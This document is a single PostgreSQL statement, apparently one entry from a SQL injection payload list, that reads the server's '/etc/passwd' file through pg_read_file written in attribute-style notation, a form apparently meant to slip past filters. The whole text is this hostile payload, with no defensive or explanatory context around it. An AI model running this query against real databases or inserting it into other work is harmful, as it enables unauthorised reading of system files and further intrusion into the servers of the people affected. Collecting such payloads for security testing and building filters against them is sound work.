SELECT ('/etc/passwd'::text).pg_read_file;
